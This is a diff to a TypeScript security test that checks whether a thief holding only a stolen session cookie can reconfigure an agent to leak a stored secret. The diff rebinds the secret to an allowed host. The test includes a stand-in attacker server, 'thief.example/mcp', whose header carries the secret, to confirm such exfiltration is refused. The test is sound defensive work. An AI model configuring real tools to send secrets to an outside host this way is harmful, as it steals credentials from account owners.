@@ -101,13 +101,17 @@ describe('A thief with nothing but a cookie', () => {
     const echo = await EchoServer.start();
     try {
       const space = await account.space();
-      await account.ok('PUT', `/spaces/${space}/secret`, { name: 'FREE', value: 'bound to no host' });
+      await account.ok('PUT', `/spaces/${space}/secret`, {
+        name: 'BOUND',
+        value: 'bound to its host',
+        allowed_hosts: [echo.host],
+      });
       const { name, value } = account.owner.signInCookie;
       const headers = { origin: new URL(system.baseUrl).origin, cookie: `${name}=${value}` };
       const as = (method: string, path: string, body?: unknown, more: Record<string, string> = {}) =>
         request(system.baseUrl, method, `/api/agent${path}`, { body, headers: { ...headers, ...more } });
-      const config = { allowed_hosts: [echo.host], headers: { 'x-key': '{{secret:FREE}}' } };
-      const server = { name: 'crm', url: 'https://thief.example/mcp', headers: { 'x-key': '{{secret:FREE}}' } };
+      const config = { allowed_hosts: [echo.host], headers: { 'x-key': '{{secret:BOUND}}' } };
+      const server = { name: 'crm', url: 'https://thief.example/mcp', headers: { 'x-key': '{{secret:BOUND}}' } };
 
       const refused = [
         await as('PUT', `/spaces/${space}/tools`, { builtin: [{ key: 'http.fetch', config }] }),
@@ -125,7 +129,7 @@ describe('A thief with nothing but a cookie', () => {
       expect(spent.billed_cost_usd).toBeGreaterThan(0);
       expect(echo.received).toEqual([]);
       expect(lower.status).toBe(200);
-      expect((await as('GET', `/spaces/${space}/secret`)).text).not.toContain('bound to no host');
+      expect((await as('GET', `/spaces/${space}/secret`)).text).not.toContain('bound to its host');
     } finally {
       await echo.stop();
     }
